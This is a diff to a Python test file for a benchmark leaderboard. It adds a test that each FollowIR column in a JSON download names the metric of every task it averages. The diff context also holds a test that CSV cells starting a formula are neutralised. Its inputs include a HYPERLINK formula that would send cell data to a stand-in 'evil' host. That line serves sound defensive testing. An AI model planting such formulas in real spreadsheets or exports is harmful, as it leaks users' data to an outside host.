@@ -630,6 +630,42 @@ def test_a_download_says_which_figures_are_a_sources_own_printed_average() -> No
     assert by_id["paper-2"]["IRS basis"] == by_id["a"]["IRS basis"] == "mean of tasks"
 
 
+def test_a_download_names_the_metric_of_each_task_a_column_averages() -> None:
+    """FollowIR's Score averages MAP@1000 on Robust04 and Core17 and nDCG@5 on News21, but
+    its JSON download described it as metric 'headline' over the three tasks, a key no task
+    figure (results.json, the export's scores or reported tables) has: a reader could not
+    recompute a Score from the task figures. Each column names the metric it takes of
+    each of its tasks (task_metrics, parallel to tasks), and the mean of those figures is
+    the cell."""
+    from leaderboard.benchmarks import all_views
+
+    view = all_views()["followir/average"]
+    figures = {"followir/robust04": {"original/AP@1000": 0.31, "original/nDCG@5": 0.9,
+                                     "p-MRR": 0.02},
+               "followir/news21": {"original/AP@1000": 0.8, "original/nDCG@5": 0.27,
+                                   "p-MRR": -0.01},
+               "followir/core17": {"original/AP@1000": 0.19, "original/nDCG@5": 0.6,
+                                   "p-MRR": 0.05}}
+    paper = SystemResult(system_id="paper", model=ModelInfo(name="paper"),
+                         provenance="reported", source=Source(kind="paper"),
+                         tasks={t: TaskScores(metrics=m) for t, m in figures.items()})
+    table = fill_view(view, [Row(key="paper", system=paper, origin=Path("x"))])
+    tier_tables([table])
+    _, records = view_records(table, lambda row: "a paper")
+    doc = view_document(table, records)
+    (record,) = [r for r in doc["rows"] if r["system_id"] == "paper"]
+    columns = {c["id"]: c for c in doc["view"]["columns"]}
+    assert columns["score"]["task_metrics"] == [
+        "original/AP@1000", "original/nDCG@5", "original/AP@1000"]
+    for column in columns.values():
+        assert len(column["task_metrics"]) == len(column["tasks"]), column["id"]
+        if record[column["id"]] is None:
+            continue  # the changed-qrels Score: no such figure here
+        values = [figures[t][m] for t, m in zip(column["tasks"], column["task_metrics"])]
+        assert record[column["id"]] == pytest.approx(math.fsum(values) / len(values),
+                                                     abs=1e-15), column["id"]
+
+
 @pytest.mark.parametrize("text", ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3",
                                   "@SUM(A1)", "\t=1", "\r=1"])
 def test_csv_text_cells_that_start_a_formula_are_neutralised(text: str) -> None:
